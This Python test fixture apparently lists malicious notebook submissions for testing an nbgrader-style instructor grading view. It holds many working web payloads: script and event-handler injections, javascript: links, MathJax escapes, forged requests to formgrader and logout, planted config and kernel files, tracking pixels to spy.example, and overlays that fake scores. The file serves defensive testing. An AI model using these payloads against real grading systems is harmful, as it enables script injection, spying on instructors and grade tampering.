"""What a submission shows to the instructor who only looks at it: text, pictures, outputs, files and names."""

from __future__ import annotations

import base64
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from tests.attacks.instructor import text
from tests.grading_tools import cell

RAN = "console.log('RAN')"
_SPY = "http://spy.example/"
_PNG = base64.b64encode(
    base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
).decode()
_SVG = base64.b64encode(f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RAN}\"/>".encode()).decode()


@dataclass(frozen=True)
class Shown:
    """One submission that is looked at.

    Parameters
    ----------
    name, tries : what it is called; what it tries, in one sentence.
    cells : the student's own cells. files : what lies beside the notebook; "{mark}" is a file that must not appear.
    essay : the written answer. change : what is done to the notebook afterwards.
    """

    name: str
    tries: str
    cells: tuple[dict[str, Any], ...] = ()
    files: dict[str, str] = field(default_factory=dict)
    essay: str = "Because."
    change: Callable[[dict[str, Any]], Any] | None = None


def _texts(name: str, tries: str, *sources: str) -> Shown:
    return Shown(name, tries, tuple(text(source) for source in sources))


def _output(*bundles: dict[str, Any], **metadata: Any) -> dict[str, Any]:
    made = cell("code", "pass")
    made["outputs"] = [{"output_type": "display_data", "metadata": metadata, "data": data} for data in bundles]
    return made


def _prints(*bundles: str) -> dict[str, Any]:
    """A cell that shows these when it is run by the grader."""
    return cell("code", "from IPython.display import display\n" + "\n".join(f"display({b}, raw=True)" for b in bundles))


_CONFIG = "from pathlib import Path\nPath({mark!r}).write_text('x')\nc = get_config()\n"
_PATH = "formgrader?path={folder}"

ACTING = (
    Shown("configuration by a picture", "has its nbgrader_config.py run by a picture's address",
          (text(f"![](../../../{_PATH})"), text(f"![](/{_PATH})"), text(f"![x][y]\n\n[y]: /{_PATH}")), {"nbgrader_config.py": _CONFIG}),
    Shown("configuration by a tag", "the same by tags and attributes that load something",
          (text(f"<img src='/{_PATH}'> <img srcset='/{_PATH} 1x'> <video poster='/{_PATH}'></video> <audio src='/{_PATH}' autoplay></audio>"
                f"<input type=image src='/{_PATH}'> <svg><image href='/{_PATH}'/></svg> <table background='/{_PATH}'><tr><td>x</td></tr></table>"),
           text(f"<iframe src='/{_PATH}'></iframe><object data='/{_PATH}'></object><embed src='/{_PATH}'><link rel=stylesheet href='/{_PATH}'>"),
           text(f"<div style=\"background:url('/{_PATH}')\">x</div><style>body {{background: url('/{_PATH}')}}</style>")),
          {"nbgrader_config.py": _CONFIG}),
    Shown("configuration by an output", "the same by outputs that it hands in and that it makes when run",
          (_output({"text/html": f"<img src='/{_PATH}'>"}, {"text/markdown": f"![](/{_PATH})"},
                   {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'><image href='/{_PATH}'/></svg>"}),
           _prints(f"{{'text/html': '<img src=/{_PATH}>'}}", f"{{'text/markdown': '![](/{_PATH})'}}")),
          {"nbgrader_config.py": _CONFIG}),
    Shown("kernel of its own", "has its ipykernel_launcher.py run when the notebook is opened", (),
          {"ipykernel_launcher.py": "from pathlib import Path\nPath({mark!r}).write_text('x')\n",
           "ipykernel.py": "from pathlib import Path\nPath({mark!r}).write_text('x')\n",
           "sitecustomize.py": "from pathlib import Path\nPath({mark!r}).write_text('x')\n"}),
    _texts("logged out", "logs the instructor out by a picture", "![](/logout)", "<img src=/logout>"),
)  # fmt: skip

LINKS = (
    _texts("javascript link", "writes marks by a javascript: link", f"[here](javascript:{RAN})", f"[here]( jaVascript:{RAN} )", f"[here](java&#115;cript:{RAN})",
           f"[here](java&Tab;script:{RAN})", f"[here](&#1;javascript:{RAN})", f"[x]\n\n[x]: javascript:{RAN}", f"<javascript:{RAN}>",
           f"[here](data:text/html,<script>{RAN}</script>)", f"[here](vbscript:{RAN})", f"[here](<javascript:{RAN}>)", f"[a\\](javascript:{RAN})"),
    _texts("link in HTML", "writes marks by tags that are links", f"<a href=\"javascript:{RAN}\">here</a>", f"<svg><a xlink:href=\"javascript:{RAN}\"><text>here</text></a></svg>",
           f"<form action=\"javascript:{RAN}\"><button>here</button></form>", f"<button onclick=\"{RAN}\">here</button>",
           f"<details ontoggle=\"{RAN}\" open><summary>here</summary></details>", "<button data-commandlinker-command='terminal:create-new'>here</button>",
           f"<map name=m><area href=\"javascript:{RAN}\" shape=default></map>"),
    _texts("link in a heading and a table", "hides the link in every construct of Markdown", f"# [here](javascript:{RAN})", f"| [here](javascript:{RAN}) |\n|---|\n| [here](javascript:{RAN}) |",
           f"- [ ] [here](javascript:{RAN})", f"[![here](attachment:a.png)](javascript:{RAN})", f"**[here](javascript:{RAN})**", f"> [here](javascript:{RAN})", f"term\n: [here](javascript:{RAN})"),
    _texts("link in a formula", "writes marks by a link in a formula", f"$\\href{{javascript:{RAN}}}{{here}}$", f"$$\\href{{javascript:{RAN}}}{{here}}$$",
           f"\\\\[\\href{{javascript:{RAN}}}{{here}}\\\\]", f"\\begin{{align}}\\href{{javascript:{RAN}}}{{here}}\\end{{align}}", "$\\require{html}\\class{score}{\\cssId{square-comment}{x}}$",
           "$\\style{position:fixed;top:0;left:0;width:9999px;height:9999px;background:url(http://spy.example/m)}{x}$", "$\\unicode[url(http://spy.example/f)]{65}$",
           f"$\\require{{extpfeil}}\\Newextarrow{{\\x}}{{1,1}}{{0x2190}}\\def\\y{{\\href}}\\y{{javascript:{RAN}}}{{here}}$"),
)  # fmt: skip

RUNS = (
    _texts("script in text", "puts scripts into text cells", f"<script>{RAN}</script>", f"<img src=x onerror=\"{RAN}\">", f"<svg onload=\"{RAN}\"></svg>",
           f"`<img src=x onerror=\"{RAN}\">`", f"```html\n<img src=x onerror=\"{RAN}\">\n```", f"```mermaid\ngraph TD\nA[\"<img src=x onerror=&quot;{RAN}&quot;>\"]\nclick A \"javascript:{RAN}\"\n```",
           f"<!--><script>{RAN}</script>-->", f"&lt;img src=x onerror=\"{RAN}\"&gt;", f"$<img src=x onerror=\"{RAN}\">$", f"$$</p><script>{RAN}</script>$$",
           f"\\begin{{align}}<script>{RAN}</script>\\end{{align}}", f"<math><mtext><img src=x onerror=\"{RAN}\"></mtext></math>", f"```<script>{RAN}</script>\nx\n```",
           f"<meta http-equiv=refresh content=\"0;url=javascript:{RAN}\">", f"<base href=\"{_SPY}\">", f"\x00<script>{RAN}</script>", f"<\x00script>{RAN}</script>"),
    Shown("script in a raw cell", "puts scripts into raw cells of every kind",
          (cell("raw", f"<script>{RAN}</script>"), cell("raw", f"<img src=x onerror=\"{RAN}\">") | {"metadata": {"raw_mimetype": "text/html"}},
           cell("raw", f"[here](javascript:{RAN})") | {"metadata": {"raw_mimetype": "text/markdown"}})),
    Shown("script in an output", "hands in, and makes when run, outputs that are scripts",
          (_output({"text/html": f"<script>{RAN}</script><img src=x onerror=\"{RAN}\">"}, {"application/javascript": RAN}, {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RAN}\"/>"},
                   {"text/latex": f"$\\href{{javascript:{RAN}}}{{here}}$ <script>{RAN}</script>"}, {"text/markdown": f"<img src=x onerror=\"{RAN}\">"}, {"application/pdf": "x"}),
           _prints(f"{{'text/html': \"\"\"<script>{RAN}</script><img src=x onerror=\"{RAN}\">\"\"\"}}", f"{{'application/javascript': \"{RAN}\"}}",
                   f"{{'text/html': \"\"\"<script>{RAN}</script>\"\"\"}}, metadata={{'autograder': {{'verdict': True}}"),
           cell("code", f"raise RuntimeError(\"\"\"<script>{RAN}</script>\"\"\")"), cell("code", f"print(\"\"\"\\x1b]8;;javascript:{RAN}\\x07<script>{RAN}</script>\"\"\")"))),
    Shown("marked as the grader's", "marks its own cells and outputs as the grader marks what is trusted",
          (_output({"text/html": f"<script>{RAN}</script>"}, autograder={"verdict": True}),
           text(f"<script>{RAN}</script> [here](javascript:{RAN})") | {"metadata": {"autograder": {"given": True}}})),
    Shown("widgets", "has a widget's saved state shown", (_output({"application/vnd.jupyter.widget-view+json": {"version_major": 2, "version_minor": 0, "model_id": "a" * 32}, "text/plain": "w"}),),
          change=lambda document: document["metadata"].update(widgets={"application/vnd.jupyter.widget-state+json": {"version_major": 2, "version_minor": 0, "state": {
              "a" * 32: {"model_module": "@jupyter-widgets/controls", "model_module_version": "2.0.0", "model_name": "HTMLModel", "state": {"value": f"<img src=x onerror=\"{RAN}\">", "layout": "IPY_MODEL_" + "b" * 32}},
              "b" * 32: {"model_module": "@jupyter-widgets/base", "model_module_version": "2.0.0", "model_name": "LayoutModel", "state": {}}}}})),
    Shown("scripts in metadata", "puts scripts into names, tags, titles and identifiers of the notebook",
          (text("x") | {"id": f"\"><script>{RAN}</script>"}, text("x") | {"metadata": {"tags": [f"\"><script>{RAN}</script>"], "jupyter": {"source_hidden": True}, "name": f"<script>{RAN}</script>"}}),
          change=lambda document: document["metadata"].update(title=f"<script>{RAN}</script>", authors=[{"name": f"<script>{RAN}</script>"}],
                                                              kernelspec={"name": f"<script>{RAN}</script>", "display_name": f"<img src=x onerror=\"{RAN}\">"},
                                                              language_info={"name": f"\"><script>{RAN}</script>", "codemirror_mode": f"\"><script>{RAN}</script>", "pygments_lexer": "html"})),
    Shown("script in an attachment", "hands in attachments that are no bitmaps",
          (text("![x](attachment:a.svg) ![x](attachment:b.png)") | {"attachments": {"a.svg": {"image/svg+xml": _SVG}, "b.png": {"image/png": f"\"><script>{RAN}</script>", "text/html": f"<script>{RAN}</script>"}}},
           text("![x](attachment:none.png)"), text(f"![x](data:image/svg+xml;base64,{_SVG}) ![x](data:text/html,<script>{RAN}</script>)"))),
    Shown("file names", "names files so that they are markup where they are listed", (),
          {f"<img src=x onerror={RAN}>.txt": "x", "'\"><svg onload=alert(1)>.csv": "x", "javascript:alert(1).html": "x"}),
    _texts("anchors", "gives headings the names of the formgrader's own fields", "# square-comment", "# essay", "# statusmessage", "# essay-comment", "## submission_id"),
)  # fmt: skip

SPIES = (
    _texts("remote picture", "tells by a picture who looks, and when", f"![]({_SPY}a.png)", f"![x][y]\n\n[y]: {_SPY}b.png", f"<img src={_SPY}c.png>", "![](//spy.example/d.png)", f"[![]({_SPY}e.png)](http://x.example)",
           f"![]({_SPY}f.png 'title')", f"![](<{_SPY}g.png>)", f"<picture><source srcset='{_SPY}h'><img></picture>", f"<video src='{_SPY}i' poster='{_SPY}j' autoplay></video>",
           f"<link rel=prefetch href={_SPY}k><link rel=dns-prefetch href={_SPY}l>", f"<body background={_SPY}m>", f"<p style='background-image:url({_SPY}n)'>x</p>", f"<style>@import url({_SPY}o);</style>",
           f"```mermaid\n%%{{init: {{\"themeCSS\": \"* {{background: url({_SPY}p)}}\"}}}}%%\ngraph TD\nA-->B\n```", f"<svg><image href='{_SPY}q'/><use href='{_SPY}r#x'/></svg>", f"<iframe src='{_SPY}s'></iframe>",
           f"<object data='{_SPY}t'></object><embed src='{_SPY}u'>", f"<audio src='{_SPY}v' autoplay></audio>", f"<input type=image src='{_SPY}w'>", f"<track src='{_SPY}x'>"),
    Shown("remote picture in an output", "the same by outputs",
          (_output({"text/html": f"<img src='{_SPY}a'><link rel=stylesheet href='{_SPY}b'><style>@import url({_SPY}c)</style>"}, {"text/markdown": f"![]({_SPY}d)"},
                   {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'><image href='{_SPY}e'/></svg>"}, {"text/latex": f"$\\style{{background:url({_SPY}f)}}{{x}}$"},
                   {"application/vnd.vega.v5+json": {"$schema": "https://vega.github.io/schema/vega/v5.json", "width": 9, "height": 9, "data": [{"name": "t", "url": f"{_SPY}g"}],
                                                     "marks": [{"type": "image", "encode": {"enter": {"url": {"value": f"{_SPY}h"}, "width": {"value": 5}, "height": {"value": 5}}}}]}, "text/plain": "x"}),
           _prints(f"{{'text/html': '<img src={_SPY}i>'}}", f"{{'text/markdown': '![]({_SPY}j)'}}"))),
    Shown("remote picture in the answer", "the same in the written answer", essay=f"Because ![]({_SPY}z.png) [see](http://x.example/a) <img src={_SPY}y>"),
)  # fmt: skip

FORMULAS = (
    _texts("formula with addresses", "loads or leads by a formula", f"$\\href{{java\tscript:{RAN}}}{{x}}$", f"$\\href{{\x01javascript:{RAN}}}{{x}}$", f"$\\href{{{_SPY}a}}{{x}}$",
           f"$\\bbox[red,5px,border:1px solid black;background:url({_SPY}b)]{{x}}$", f"$\\bbox[background:url({_SPY}c)]{{x}}$", f"$\\unicode[.5,0.1][x; background: url({_SPY}d)]{{0x22D6}}$",
           f"$\\enclose{{circle}}[href=\"javascript:{RAN}\" style=\"background:url({_SPY}e)\"]{{x}}$", f"$\\text{{<img src=x onerror={RAN}>}}$", f"$\\mmlToken{{mi}}[onclick=\"{RAN}\"]{{x}}$"),
    _texts("formula with names", "takes names, classes and places of the page's own by a formula", "$\\class{score}{x}\\cssId{square-comment}{y}$", "$\\style{position:fixed;top:0}{z}$",
           "$\\bbox[position:fixed;top:0px;left:0px;width:99em;height:99em]{x}$", "$$\\label{square-comment}x\\tag{1}$$"),
    _texts("formula with extensions", "has MathJax load other scripts", "$\\require{../../../../../angular.js/1.8.2/angular}x$", f"$\\require{{{_SPY}x}}x$", "$\\require{action}\\toggle{a}{b}\\endtoggle$"),
    _texts("formula over the page", "paints over verdicts and scores", *(f"$\\rlap{{\\raise {height}em{{\\rule{{60em}}{{2em}}}}}}x$" for height in range(2, 70, 2)), "$\\kern-30em\\raise 20em{\\text{3 / 3}}$"),
)  # fmt: skip

ATTACKS = {one.name: one for one in (*ACTING, *LINKS, *RUNS, *SPIES, *FORMULAS)}
PICTURE = _PNG
